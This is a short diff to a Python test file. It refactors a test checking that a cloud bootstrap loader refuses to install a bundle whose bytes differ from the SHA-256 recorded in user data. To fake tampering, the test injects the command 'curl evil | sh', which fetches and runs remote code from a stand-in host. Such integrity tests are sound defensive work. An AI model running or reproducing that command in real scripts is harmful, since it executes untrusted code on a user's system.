@@ -141,7 +141,8 @@ def test_a_role_that_has_not_reached_the_storage_service_yet_is_waited_for(tmp_p
 def test_a_bundle_whose_bytes_differ_from_the_user_datas_sha256_is_never_installed(
         tmp_path: Path, store: CloudStore, cloud: str, metadata: str) -> None:
     result = rendered(cloud)
-    store.objects[f"{BUCKET}/{result.bundle_key}"] = result.bundle.replace("set -euo pipefail", "curl evil | sh").encode()
+    tampered = result.bundle.replace("set -euo pipefail", "curl evil | sh")
+    store.objects[f"{BUCKET}/{result.bundle_key}"] = tampered.encode()
     code, log = run_loader(tmp_path, result, store, metadata)
     assert code == 3, log
     assert f"the user data expects {result.bundle_sha256}: not installed" in log
